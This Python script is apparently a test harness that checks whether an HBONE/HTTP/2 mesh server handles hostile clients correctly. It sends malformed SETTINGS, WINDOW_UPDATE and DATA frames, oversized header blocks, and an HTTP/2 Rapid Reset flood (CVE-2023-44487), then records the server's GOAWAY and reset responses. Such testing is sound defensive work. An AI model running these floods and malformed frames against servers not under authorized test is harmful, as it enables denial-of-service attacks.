#!/usr/bin/python3
"""A hostile HBONE client: mutual TLS 1.3 + ALPN h2 with a valid mesh client certificate (so every attack reaches the
HTTP/2 layer), one good CONNECT tunnel first (the probe), then one attack on the same connection, then it reads
until the server closes the connection or --linger seconds pass.

Valid frames are built with hyperframe and HPACK-encoded with hpack (the frame and header layers of python3-h2);
malformed and oversized frames are raw bytes (struct.pack), because a conforming library refuses to emit them.

Attacks (--attack):
  none                 only the probe; the connection must stay open (control case)
  settings-length      SETTINGS on stream 0 with a 7-byte payload (RFC 9113 6.5: FRAME_SIZE_ERROR)
  window-update-zero   WINDOW_UPDATE on stream 0 with increment 0 (RFC 9113 6.9: PROTOCOL_ERROR)
  oversized-frame      DATA on the probe stream one byte longer than the server's SETTINGS_MAX_FRAME_SIZE (4.2)
  big-header           CONNECT whose header block carries one --header-size byte value (HEADERS + CONTINUATION)
  rapid-reset          --streams x (HEADERS CONNECT + RST_STREAM CANCEL), CVE-2023-44487
  cancellations        --good CONNECT tunnels answered 200 first, then --streams x (HEADERS + RST_STREAM): a busy
                       client that cancels now and then, which must NOT be taken for a flood

Prints one JSON object on stdout:
  {"attack", "alpn", "server_settings": {name: value}, "probe": {"status", "echoed"},
   "sent_streams", "goaway": {"error_code", "error_name", "last_stream_id", "debug"} | null,
   "closed": bool, "close_reason": "eof" | "reset" | null, "closed_after_s": float | null,
   "rst_streams": {error_name: count}, "statuses": {status: count}, "probe_reset": error_name | null,
   "send_error": str | null, "error": str | null}
Exit 3 if python3-h2 (hyperframe, hpack) is missing; 0 otherwise, also when the server refused us (see "error").
"""
import argparse
import json
import ssl
import struct
import sys
import time

try:
    import hpack
    import hyperframe.frame as hf
    from h2_frames import PREFACE, WINDOW, FrameSocket, add_hbone_arguments, connect_hbone, error_name, setting_name
except ImportError:
    print(json.dumps({"error": "python3-h2 is not installed for /usr/bin/python3 (apt-get install python3-h2)"}))
    sys.exit(3)

# RFC 9113 6.1-6.10 frame type codes.
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x7, 0x8, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8

p = argparse.ArgumentParser()
add_hbone_arguments(p, "CONNECT target served by the listener (podIP:port)")
p.add_argument("--attack", required=True,
               choices=["none", "settings-length", "window-update-zero", "oversized-frame", "big-header", "rapid-reset",
                        "cancellations"])
p.add_argument("--streams", type=int, default=5000, help="rapid-reset: streams opened and reset")
p.add_argument("--good", type=int, default=0, help="cancellations: tunnels opened (and answered 200) first")
p.add_argument("--header-size", type=int, default=20 * 1024, help="big-header: bytes of the one header value")
p.add_argument("--probe-len", type=int, default=4096)
p.add_argument("--linger", type=float, default=5.0, help="seconds to wait for the server to close after the attack")
p.add_argument("--timeout", type=float, default=15.0)
p.add_argument("--debug", action="store_true", help="log every server frame to stderr")
a = p.parse_args()


def raw_frame(ftype, flags, sid, payload):
    # RFC 9113 4.1: Length (24) | Type (8) | Flags (8) | R (1) | Stream Identifier (31) | Frame Payload
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, sid & 0x7FFFFFFF) + payload


class Peer(FrameSocket):
    """Reads server frames (raw parsing via hyperframe, header blocks via hpack) and records what happened."""

    def __init__(self, sock):
        super().__init__(sock)
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self.block = None  # (stream id, bytearray) while a header block spans CONTINUATION frames
        self.settings = {}
        self.settings_seen = False
        self.goaway = None
        self.rst = {}  # stream id -> error name
        self.status = {}  # stream id -> :status
        self.data = {}  # stream id -> bytes received
        self.ended = set()
        self.out = bytearray()

    def send(self, data):
        self.out += data
        self.flush(block=True)

    def flush(self, block):
        while self.out:
            try:
                n = self.sock.send(self.out)
                del self.out[:n]
            except (ssl.SSLWantWriteError, BlockingIOError):
                if not block:
                    return
                # Keep reading while we wait, so a server that answers while we write never deadlocks us.
                self.pump(0.05)
                if self.closed:
                    raise ConnectionResetError("server closed the connection while we were sending")

    def _close(self, reason):
        if a.debug:
            print("%.3f closed: %s (%d bytes unparsed)" % (time.monotonic(), reason, len(self.buf)), file=sys.stderr)
        super()._close(reason)

    def _handle(self, f):
        if a.debug:
            print("%.3f %r" % (time.monotonic(), f), file=sys.stderr)
        if isinstance(f, hf.SettingsFrame):
            if "ACK" not in f.flags:
                self.settings.update(f.settings)
                self.settings_seen = True
                self.out += hf.SettingsFrame(0, flags=["ACK"]).serialize()
        elif isinstance(f, hf.PingFrame):
            if "ACK" not in f.flags:
                self.out += hf.PingFrame(0, flags=["ACK"], opaque_data=f.opaque_data).serialize()
        elif isinstance(f, hf.GoAwayFrame):
            self.goaway = {"error_code": f.error_code, "error_name": error_name(f.error_code),
                           "last_stream_id": f.last_stream_id,
                           "debug": f.additional_data.decode("utf-8", "replace")}
        elif isinstance(f, hf.RstStreamFrame):
            self.rst[f.stream_id] = error_name(f.error_code)
        elif isinstance(f, (hf.HeadersFrame, hf.ContinuationFrame)):
            if isinstance(f, hf.HeadersFrame):
                self.block = (f.stream_id, bytearray(f.data))
            elif self.block is not None:
                self.block[1].extend(f.data)
            if "END_HEADERS" in f.flags and self.block is not None:
                sid, block = self.block
                self.block = None
                headers = self.decoder.decode(bytes(block))
                for name, value in headers:
                    if name in (":status", b":status"):
                        self.status.setdefault(sid, int(value))
            if "END_STREAM" in f.flags:
                self.ended.add(f.stream_id)
        elif isinstance(f, hf.DataFrame):
            self.data[f.stream_id] = self.data.get(f.stream_id, b"") + f.data
            if f.flow_controlled_length:
                # Return the credit at once: the probe and the server's error bodies must never stall on windows.
                self.out += hf.WindowUpdateFrame(0, window_increment=f.flow_controlled_length).serialize()
                if f.stream_id not in self.ended and "END_STREAM" not in f.flags:
                    self.out += hf.WindowUpdateFrame(f.stream_id, window_increment=f.flow_controlled_length).serialize()
            if "END_STREAM" in f.flags:
                self.ended.add(f.stream_id)

    def wait(self, condition, seconds):
        deadline = time.monotonic() + seconds
        while not condition() and not self.closed and time.monotonic() < deadline:
            self.pump(0.05)
            self.flush(block=True)
        return condition()


encoder = hpack.Encoder()


def headers_frames(sid, headers, huffman=True, max_frame=16384):
    """HEADERS (+ CONTINUATION when the block exceeds max_frame), END_HEADERS on the last."""
    block = encoder.encode(headers, huffman=huffman)
    chunks = [block[i:i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = bytearray()
    for i, chunk in enumerate(chunks):
        flags = END_HEADERS if i == len(chunks) - 1 else 0
        out += raw_frame(HEADERS if i == 0 else CONTINUATION, flags, sid, chunk)
    return bytes(out), len(block), len(chunks)


result = {"attack": a.attack, "alpn": None, "server_settings": {}, "probe": None, "sent_streams": 0,
          "goaway": None, "closed": False, "close_reason": None, "closed_after_s": None, "rst_streams": {},
          "statuses": {}, "probe_reset": None, "send_error": None, "error": None}
peer = None
try:
    sock = connect_hbone(a.addr, a.ca, a.cert, a.key, a.timeout)
    result["alpn"] = sock.selected_alpn_protocol()
    if result["alpn"] != "h2":
        raise RuntimeError("ALPN h2 not negotiated: %r" % result["alpn"])
    sock.setblocking(False)
    peer = Peer(sock)

    # Connection preface (RFC 9113 3.4), our SETTINGS and a large connection window.
    peer.send(PREFACE
              + hf.SettingsFrame(0, settings={hf.SettingsFrame.INITIAL_WINDOW_SIZE: WINDOW,
                                              hf.SettingsFrame.ENABLE_PUSH: 0}).serialize()
              + hf.WindowUpdateFrame(0, window_increment=WINDOW - 65535).serialize())
    if not peer.wait(lambda: peer.settings_seen, a.timeout):
        raise RuntimeError("no SETTINGS from the server")
    result["server_settings"] = {setting_name(k): v for k, v in peer.settings.items()}
    max_frame = peer.settings.get(hf.SettingsFrame.MAX_FRAME_SIZE, 16384)

    # The probe: a good tunnel on stream 1 proves the connection reached HTTP/2 and works before the attack.
    frames, _, _ = headers_frames(1, [(":method", "CONNECT"), (":authority", a.authority)])
    peer.send(frames)
    if not peer.wait(lambda: 1 in peer.status or 1 in peer.rst, a.timeout):
        raise RuntimeError("probe CONNECT got no answer")
    probe = {"status": peer.status.get(1), "echoed": 0}
    if probe["status"] == 200 and a.probe_len > 0:
        payload = bytes(i % 251 for i in range(a.probe_len))
        peer.send(raw_frame(DATA, 0, 1, payload))
        peer.wait(lambda: len(peer.data.get(1, b"")) >= a.probe_len, a.timeout)
        echoed = peer.data.get(1, b"")
        probe["echoed"] = len(echoed) if echoed == payload else -1
    result["probe"] = probe

    attack_started = time.monotonic()
    sent = 0
    try:
        if a.attack == "settings-length":
            peer.send(raw_frame(SETTINGS, 0, 0, b"\x00\x04\x00\x01\x00\x00\x00"))
        elif a.attack == "window-update-zero":
            peer.send(raw_frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)))
        elif a.attack == "oversized-frame":
            # The header announces max+1 bytes; the server must refuse on the length alone, without buffering the
            # payload. Only 1 KiB follows: with a megabyte still unread, the server's close becomes a TCP reset that
            # can destroy its GOAWAY in flight, and this test is about what the server says.
            frame = raw_frame(DATA, 0, 1, bytes(max_frame + 1))
            peer.send(frame[:9 + 1024])
        elif a.attack == "big-header":
            # Literal (no Huffman) so the block really is larger than one 16 KiB frame and needs CONTINUATION.
            frames, block_len, n = headers_frames(3, [(":method", "CONNECT"), (":authority", a.authority),
                                                      ("x-hostile", "a" * a.header_size)], huffman=False)
            result["header_block"] = {"bytes": block_len, "frames": n}
            peer.send(frames)
            sent = 1
        elif a.attack in ("rapid-reset", "cancellations"):
            first = 3
            if a.attack == "cancellations":
                good = [3 + 2 * i for i in range(a.good)]
                for sid in good:
                    frames, _, _ = headers_frames(sid, [(":method", "CONNECT"), (":authority", a.authority)])
                    peer.send(frames)
                if not peer.wait(lambda: all(sid in peer.status for sid in good), a.timeout):
                    raise RuntimeError("not every good tunnel was answered")
                result["good_statuses"] = sorted(set(peer.status[sid] for sid in good))
                first = 3 + 2 * a.good
            batch = bytearray()
            for i in range(a.streams):
                sid = first + 2 * i
                frames, _, _ = headers_frames(sid, [(":method", "CONNECT"), (":authority", a.authority)])
                batch += frames + raw_frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
                sent += 1
                if len(batch) > 16 * 1024:
                    peer.send(bytes(batch))
                    batch.clear()
                    peer.pump(0)
                    if peer.closed:
                        break
            if batch and not peer.closed:
                peer.send(bytes(batch))
    except (OSError, ssl.SSLError) as e:
        result["send_error"] = "%s: %s" % (type(e).__name__, e)
        if not peer.closed:
            peer._close("reset: %s" % e)
    result["sent_streams"] = sent

    # Read until the server closes the connection, or --linger passes (the "none" control keeps it open).
    deadline = time.monotonic() + a.linger
    while not peer.closed and time.monotonic() < deadline:
        peer.pump(0.05)
        try:
            peer.flush(block=False)
        except (OSError, ssl.SSLError):
            pass
    if not peer.closed:
        # The server still talks to us: does the probe tunnel still echo? (Only the "none" control expects so.)
        try:
            before = len(peer.data.get(1, b""))
            peer.send(raw_frame(DATA, 0, 1, b"still-there"))
            peer.wait(lambda: len(peer.data.get(1, b"")) >= before + 11, 2.0)
            result["probe_after"] = len(peer.data.get(1, b"")) - before
        except (OSError, ssl.SSLError) as e:
            result["probe_after"] = "%s: %s" % (type(e).__name__, e)
    result["goaway"] = peer.goaway
    result["closed"] = peer.closed
    result["close_reason"] = peer.close_reason
    result["closed_after_s"] = round(peer.closed_at - attack_started, 3) if peer.closed_at else None
    counts = {}
    for sid, name in peer.rst.items():
        if sid != 1:
            counts[name] = counts.get(name, 0) + 1
    result["rst_streams"] = counts
    result["probe_reset"] = peer.rst.get(1)
    statuses = {}
    for sid, status in peer.status.items():
        if sid != 1 and sid >= 3 + 2 * a.good:
            statuses[str(status)] = statuses.get(str(status), 0) + 1
    result["statuses"] = statuses
    try:
        sock.close()
    except OSError:
        pass
except (OSError, ssl.SSLError, RuntimeError, hpack.HPACKError) as e:
    result["error"] = "%s: %s" % (type(e).__name__, e)
    if peer is not None:
        result["goaway"] = peer.goaway
        result["closed"] = peer.closed
print(json.dumps(result))
